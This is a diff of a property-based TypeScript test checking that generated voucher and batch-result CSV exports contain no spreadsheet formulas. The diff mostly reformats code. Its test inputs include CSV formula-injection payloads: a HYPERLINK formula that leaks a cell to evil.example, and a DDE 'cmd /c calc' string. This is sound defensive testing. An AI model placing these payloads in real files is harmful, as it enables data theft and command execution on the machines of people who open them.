@@ -2,8 +2,8 @@ import { buffer } from "node:stream/consumers";
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import type { BatchResult } from "../../../api/batches/to-result.js";
 import { writeResults } from "../../../api/batches/csv/write-results.js";
+import type { BatchResult } from "../../../api/batches/to-result.js";
 import { writeVoucherCsv } from "../../../api/reports/write-voucher-csv.js";
 import { csvText, readCsvText } from "../../../shared/domain/reports/csv-cell.js";
 import { csvLocales } from "../../../shared/domain/reports/csv-locale.js";
@@ -14,9 +14,11 @@ import { propertyRuns } from "../../support/samples/property-runs.js";
 /** Texts made of each other: what one reader sees as one cell is several to another. */
 const anyText = fc.oneof(
   anyHostileText,
-  fc.array(fc.oneof(anyHostileText, fc.constantFrom(",", ";", "\t", "|", '"', "\n", " ", "=", "@SUM(1)", "-2+3")), {
-    maxLength: 6,
-  }).map((parts) => parts.join("")),
+  fc
+    .array(fc.oneof(anyHostileText, fc.constantFrom(",", ";", "\t", "|", '"', "\n", " ", "=", "@SUM(1)", "-2+3")), {
+      maxLength: 6,
+    })
+    .map((parts) => parts.join("")),
   fc.constantFrom(
     'Juan;=HYPERLINK("http://evil.example/?"&A2;"ver");Perez',
     "c;@SUM(1+1)*cmd|'/c calc'!A0;d",
@@ -67,10 +69,10 @@ const formulasIn = (csv: string): string[] =>
     .filter((cell) => /^[=+\-@＝＋－＠]/.test(cell.trimStart()) && !harmless.test(cell));
 
 describe("no cell of a CSV file is a formula, whichever separator its reader splits at", () => {
-  test.each([undefined, "es-AR"] as const)("vouchers.csv, locale %s", async (locale) => {
-    const anyVoucher = fc
-      .tuple(anyColumns, anyPayload, anyText, anyText)
-      .map(([columns, payload, one, other]) => ({
+  test.each([undefined, "es-AR"] as const)(
+    "vouchers.csv, locale %s",
+    async (locale) => {
+      const anyVoucher = fc.tuple(anyColumns, anyPayload, anyText, anyText).map(([columns, payload, one, other]) => ({
         id: 1,
         ...columns,
         ...payload,
@@ -79,13 +81,15 @@ describe("no cell of a CSV file is a formula, whichever separator its reader spl
         externalReference: `${other}${one}`,
         customer: { name: one, address: other },
       }));
-    await fc.assert(
-      fc.asyncProperty(fc.array(anyVoucher, { minLength: 1, maxLength: 3 }), async (vouchers) => {
-        expect(formulasIn(await vouchersCsv(vouchers, locale))).toEqual([]);
-      }),
-      propertyRuns(1000),
-    );
-  }, 300_000);
+      await fc.assert(
+        fc.asyncProperty(fc.array(anyVoucher, { minLength: 1, maxLength: 3 }), async (vouchers) => {
+          expect(formulasIn(await vouchersCsv(vouchers, locale))).toEqual([]);
+        }),
+        propertyRuns(1000),
+      );
+    },
+    300_000,
+  );
 
   test("results.csv of a batch, its keys included", () => {
     fc.assert(
